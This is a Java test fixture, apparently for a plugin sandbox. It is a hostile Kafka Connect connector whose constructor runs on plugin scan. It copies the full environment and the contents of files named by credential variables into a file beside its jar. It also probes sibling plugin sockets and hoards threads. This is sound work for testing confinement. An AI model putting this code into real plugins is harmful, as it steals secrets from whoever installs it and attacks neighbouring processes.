package headrace.testing;

import java.io.File;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.apache.kafka.common.config.ConfigDef;
import org.apache.kafka.connect.connector.Task;
import org.apache.kafka.connect.source.SourceConnector;

/**
 * A hostile connector: as soon as it is made (which Connect's plugin scanner does to every
 * connector class it finds), it reads what it can of the process that made it (its whole
 * environment, and the files its credential variables name) and writes it beside its own jar,
 * in {@code pried.txt}, for whoever installed it to collect. Confined, it finds nothing worth
 * having and can write nowhere but its own temporary folder. Started, it may hoard threads, and
 * with {@code report.path} it tries to serve on a TCP port and to call its worker's other plugin
 * hosts over their sockets, and writes what happened to {@code report.json} there
 * ({@code {"listen_tcp": "ok: ..." or "refused: ...", "call_sibling_hosts": ...}}).
 */
public final class PryingSourceConnector extends SourceConnector {
    public PryingSourceConnector() {
        StringBuilder found = new StringBuilder();
        Map<String, String> environment = new TreeMap<>(System.getenv());
        environment.forEach((name, value) -> found.append("env ").append(name).append('=').append(value).append('\n'));
        for (String name : List.of("HEADRACE_AUTH_TOKENS", "HEADRACE_TLS_KEY", "KAFKA_SASL_PASSWORD_FILE")) {
            String path = environment.get(name);
            if (path == null || path.isEmpty()) {
                continue;
            }
            try {
                found.append("file ").append(path).append('\n').append(Files.readString(Path.of(path)));
            } catch (Exception refused) {
                found.append("refused ").append(path).append(": ").append(refused).append('\n');
            }
        }
        try {
            File jar = new File(getClass().getProtectionDomain().getCodeSource().getLocation().toURI());
            Files.writeString(jar.toPath().resolveSibling("pried.txt"), found, StandardCharsets.UTF_8);
        } catch (Exception refused) {
            // Confined: nowhere to leave it.
        }
    }

    /**
     * With {@code hoard.threads}, starts that many threads that never end (at most 4096), as a
     * plugin would that leaks them: the JVM's bound on its threads must end it first.
     */
    @Override
    public void start(Map<String, String> props) {
        String reportPath = props.get("report.path");
        if (reportPath != null) {
            Map<String, String> report = new LinkedHashMap<>();
            report.put("listen_tcp", listenTcp());
            report.put("call_sibling_hosts", callSiblingHosts());
            try {
                Files.writeString(Path.of(reportPath, "report.json"), json(report), StandardCharsets.UTF_8);
            } catch (Exception refused) {
                throw new IllegalStateException("could not write its report: " + refused, refused);
            }
        }
        int threads = Math.min(Integer.parseInt(props.getOrDefault("hoard.threads", "0")), 4096);
        for (int i = 0; i < threads; i++) {
            Thread hoarded = new Thread(() -> {
                try {
                    Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                    // ends with the JVM
                }
            }, "hoarded-" + i);
            hoarded.setDaemon(true);
            hoarded.start();
        }
    }

    private static String listenTcp() {
        try (ServerSocket server = new ServerSocket()) {
            server.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            return "ok: listening on port " + server.getLocalPort();
        } catch (Exception refused) {
            return "refused: " + refused;
        }
    }

    /**
     * Its JVM's temporary folder is in its plugin process's folder, beside that process's
     * socket and its JVM's; every other plugin process of the worker has a folder beside it.
     */
    private static String callSiblingHosts() {
        Path own = Path.of(System.getProperty("java.io.tmpdir")).toAbsolutePath().getParent();
        List<Path> found = new ArrayList<>();
        try (Stream<Path> folders = Files.list(own.getParent())) {
            folders.filter(folder -> !folder.equals(own)).forEach(folder -> {
                for (String name : List.of("host.sock", "jvm.sock")) {
                    if (Files.exists(folder.resolve(name))) {
                        found.add(folder.resolve(name));
                    }
                }
            });
        } catch (Exception refused) {
            return "refused: " + refused;
        }
        if (found.isEmpty()) {
            return "refused: no sibling socket found";
        }
        List<String> answers = new ArrayList<>();
        for (Path socket : found) {
            answers.add(socket.getFileName() + " " + call(socket));
        }
        return String.join("; ", answers);
    }

    /** Opens an HTTP/2 connection, as any gRPC client does first, and waits for the server's. */
    private static String call(Path socket) {
        try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
            channel.connect(UnixDomainSocketAddress.of(socket));
            byte[] preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
            ByteBuffer settings = ByteBuffer.allocate(preface.length + 9);
            settings.put(preface).put(new byte[] {0, 0, 0, 4, 0, 0, 0, 0, 0}).flip();
            channel.write(settings);
            ByteBuffer answer = ByteBuffer.allocate(64);
            int read = channel.read(answer);
            return read > 0 ? "ok: answered " + read + " bytes" : "refused: closed";
        } catch (Exception refused) {
            return "refused: " + refused;
        }
    }

    private static String json(Map<String, String> report) {
        StringBuilder out = new StringBuilder("{");
        report.forEach((key, value) -> {
            if (out.length() > 1) {
                out.append(", ");
            }
            out.append('"').append(key).append("\": \"")
                .append(value.replace("\\", "\\\\").replace("\"", "\\\"")).append('"');
        });
        return out.append('}').toString();
    }

    @Override
    public Class<? extends Task> taskClass() {
        throw new UnsupportedOperationException("it only pries");
    }

    @Override
    public List<Map<String, String>> taskConfigs(int maxTasks) {
        return List.of();
    }

    @Override
    public void stop() {}

    @Override
    public ConfigDef config() {
        return new ConfigDef();
    }

    @Override
    public String version() {
        return "1.0.0";
    }
}
